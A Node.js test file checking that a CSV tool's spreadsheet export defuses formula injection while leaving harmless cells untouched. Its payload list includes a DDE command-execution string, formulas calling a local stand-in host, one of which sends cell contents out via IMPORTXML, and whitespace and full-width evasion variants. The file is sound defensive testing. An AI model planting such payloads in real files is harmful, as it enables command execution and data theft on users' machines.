// The copy for a spreadsheet: nothing in it runs, and nothing else in it is changed. LibreOffice, where it is there,
// says the same.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { HEADER, scratch } from '../files.mjs';
import { open } from '../built.mjs';
import { run } from './helpers.mjs';

const cosell = await open({ worker: false });
const { folder, file } = scratch();

const BEFORE = ['', ' ', '\t', '\n', '\r\n', '\u00A0', '\u3000', '\uFEFF', '\u200B', ' \u00A0\t'];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/** Cells that a spreadsheet would run: each sign after each kind of blank, and the ways in between. */
const PAYLOADS = [
  ...BEFORE.flatMap((before) => SIGNS.map((sign) => `${before}${sign}1+1`)),
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://127.0.0.1:9/","x")',
  '=IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")',
  '@SUM(1+1)*cmd|x!A0',
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '=""',
  '=(1)',
  '=1+1,=1+1',
  '=A1',
  '=-1',
  '=\n1+1',
  'Lead;=1+1;x',
  'Lead; ＝1+1',
  'Lead\n=1+1',
  'Lead\r\n@SUM(1)',
  'Lead\t=1+1',
  'Lead\r=1+1\r',
  '"=1+1',
  '";=1+1;"',
  '";\n=1+1\n;"',
];
/** Cells that stay as they are, to the byte. */
const HARMLESS = [
  '+886 2 2345-6789',
  '+1 (425) 555-0100',
  '+49 30 1234 ext. 9',
  '-',
  'Lead - Sales',
  'a=b',
  'ann+tag@contoso.com',
  "'quoted'",
  'Ann, "the lead" Lee',
  'x; y',
  '王小明',
  '=',
];
const SOURCE = `Name,Note\r\n${[...PAYLOADS, ...HARMLESS].map((text) => `x,"${text.replaceAll('"', '""')}"\r\n`).join('')}`;

/** @param {'csv' | 'spreadsheet'} format */
async function written(format) {
  const pieces = [];
  for await (const piece of cosell.convert(SOURCE, { format })) pieces.push(piece);
  return Buffer.concat(pieces);
}
/** The second cells of a CSV text, read plainly. @param {string} csv */
const cellsOf = (csv) =>
  [...csv.matchAll(/^x,(?:"((?:[^"]|"")*)"|([^\r\n]*))\r\n/gm)].map(([, quoted, plain]) =>
    quoted === undefined ? plain : quoted.replaceAll('""', '"'),
  );

test('an apostrophe stands before whatever might run, wherever a cell might begin; nothing else is changed', async () => {
  assert.ok(PAYLOADS.length >= 60);
  const text = (await written('spreadsheet')).toString();
  assert.ok(text.startsWith('\uFEFFName,Note\r\n'), 'Excel is to read it as UTF-8');
  const cells = cellsOf(text);
  assert.equal(cells.length, PAYLOADS.length + HARMLESS.length);
  for (const [i, payload] of PAYLOADS.entries()) {
    const cell = cells[i];
    assert.equal(cell.replaceAll("'", ''), payload.replaceAll("'", ''), JSON.stringify(payload));
    for (const part of cell.split(/[;\t\r\n]/)) {
      assert.doesNotMatch(part, /^[\s\u200B\uFEFF]*[=+\-@＝＋－＠]/, JSON.stringify(cell));
    }
  }
  assert.deepEqual(cells.slice(PAYLOADS.length), HARMLESS);
});

/** All cells of a CSV text, read by the tool itself. @param {string} csv @returns {Promise<string[][]>} */
async function recordsOf(csv) {
  const { out } = await run(['convert', '-', '--format', 'json', '--delimiter', 'comma'], { input: csv });
  return JSON.parse(out).records;
}

test('findings as a table, and rejected rows, run nothing either', async () => {
  const row = (/** @type {string} */ text) =>
    `"${text.replaceAll('"', '""')}",ann@contoso.com,CEO,Boss,US,x\r\n`;
  const path = file('rejected.csv', HEADER + [...PAYLOADS, ...HARMLESS].map(row).join(''));
  const rejected = join(folder, 'why.csv');
  await run(['fix', path, '-o', join(folder, 'fixed.csv'), '--rejected', rejected]);
  for (const csv of [(await run(['check', path, '--format', 'csv'])).out, readFileSync(rejected, 'utf8')]) {
    const records = await recordsOf(csv);
    assert.ok(records.length > PAYLOADS.length);
    for (const part of records.flat().flatMap((cell) => cell.split(/[;\t\r\n]/)))
      assert.doesNotMatch(part, /^[\s\u200B\uFEFF]*(?:[=@＝＠](?!$)|[+\-＋－](?=.*[a-z]{2})(?!.*ext))/);
  }
  const names = (await recordsOf(readFileSync(rejected, 'utf8'))).map(([, , name]) => name);
  assert.deepEqual(names.slice(-HARMLESS.length), HARMLESS);
});

test('the file for the import keeps such cells as they are, and the report names each', async () => {
  const named = PAYLOADS.filter((payload) => /^[ \u00A0\u3000\uFEFF]*[=+@＝＋＠]1\+1$/.test(payload));
  assert.ok(named.length >= 24);
  const text =
    HEADER + named.map((payload) => `Ann,ann@contoso.com,${payload},Partner sales,US,\r\n`).join('');
  const report = await cosell.checkContacts(text);
  const found = [...report.findings].filter(({ rule }) => rule === 'contact.formula').map(({ cell }) => cell);
  assert.deepEqual(
    found,
    named.map((_, i) => `C${i + 2}`),
  );
  const { file: corrected } = await cosell.fix(text, { only: ({ rule }) => rule === 'contact.formula' });
  assert.equal(await corrected.text(), text);
});

const hasOffice = spawnSync('soffice', ['--version']).status === 0;

/** What LibreOffice makes of a CSV file. @param {string} csv path @param {string} separators character codes */
function opened(csv, separators) {
  const options = `${separators},34,76,1,,0,false,true,false,false,false,-1,true`; // UTF-8, formulas are run
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${folder}/office`,
      '--headless',
      `--infilter=CSV:${options}`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      csv,
    ],
    { stdio: 'ignore' },
  );
  return readFileSync(csv.replace(/csv$/, 'fods'), 'utf8');
}
/** @param {string} fods */
const formulas = (fods) => [...fods.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula);

test(
  'LibreOffice runs nothing of it, whatever it takes for the delimiter',
  { skip: !hasOffice && 'no soffice here' },
  async () => {
    const [plain, safe] = [
      file('plain.csv', await written('csv')),
      file('safe.csv', await written('spreadsheet')),
    ];
    for (const separators of ['44', '59', '9', '44/59/9']) {
      assert.ok(
        formulas(opened(plain, separators)).length > 0,
        `control: something runs of the plain file (${separators})`,
      );
      assert.deepEqual(formulas(opened(safe, separators)), [], separators);
    }
    assert.match(opened(safe, '44'), /<text:p>\+886 2 2345-6789</);
  },
);

test('command line: convert --format spreadsheet', async () => {
  const [source, output] = [file('source.csv', SOURCE), join(folder, 'copy.spreadsheet.csv')];
  const { status, err } = await run(['convert', source, '--format', 'spreadsheet', '--output', output]);
  assert.deepEqual([status, err], [0, '']);
  assert.deepEqual(readFileSync(output), await written('spreadsheet'));
});
